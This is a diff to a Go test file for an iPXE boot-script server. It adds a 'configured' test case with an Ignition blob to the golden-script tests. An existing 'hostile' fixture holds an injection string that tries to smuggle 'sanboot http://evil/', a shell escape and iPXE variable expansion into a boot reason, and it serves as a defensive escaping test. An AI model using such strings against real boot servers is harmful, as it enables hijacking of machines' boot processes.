@@ -60,6 +60,9 @@ func (f fakeSource) Blob(sha string) (boot.Blob, bool) {
 func answers() fakeSource {
 	install := boot.Answer{Action: boot.Install, Name: "cp1", Code: "armed", Reason: "it is armed", Kernel: kernel, Initrd: []boot.Blob{initrd},
 		Args: []string{"flatcar.first_boot=1", "console=ttyS0,115200n8"}}
+	// configured brings its Ignition config along.
+	configured := install
+	configured.Initrd, configured.Configured = []boot.Blob{initrd, nbp}, true
 	discover := install
 	discover.Action, discover.Name, discover.Code, discover.Reason = boot.Discover, "", "unknown-machine", "it is not in cluster.yaml"
 	local := boot.Answer{Action: boot.Local, Name: "cp1", Code: "not-armed", Reason: "it is not armed", LocalBoot: "exit"}
@@ -68,7 +71,7 @@ func answers() fakeSource {
 	hostile := local
 	hostile.Reason = "it says \"x\" || sanboot http://evil/ ; ${net0/mac} `a` \\ # é\nshell"
 	return fakeSource{
-		"install": install, "broken": install, "discover": discover, "exit": local, "sanboot": sanboot, "poweroff": poweroff, "hostile": hostile,
+		"configured": configured, "install": install, "broken": install, "discover": discover, "exit": local, "sanboot": sanboot, "poweroff": poweroff, "hostile": hostile,
 		"none":                      {Action: boot.None, Code: "conflict", Refused: true, Reason: "it shows marks of two machines"},
 		`a b"&${mac}#;|%\` + "'<x>": install,
 	}
@@ -112,7 +115,7 @@ func body(t *testing.T, r *http.Response) string {
 // The goldens are what iPXE runs; review their diff.
 func TestScripts(t *testing.T) {
 	h := newHandler()
-	for _, serial := range []string{"install", "discover", "exit", "sanboot", "poweroff", "none", "hostile"} {
+	for _, serial := range []string{"install", "configured", "discover", "exit", "sanboot", "poweroff", "none", "hostile"} {
 		t.Run(serial, func(t *testing.T) {
 			r := get(h, "GET", "/boot.ipxe?mac=52:54:00:00:00:01&uuid=01020304-0506-0708-090A-0B0C0D0E0FFF&platform=efi&serial="+serial)
 			got := body(t, r)
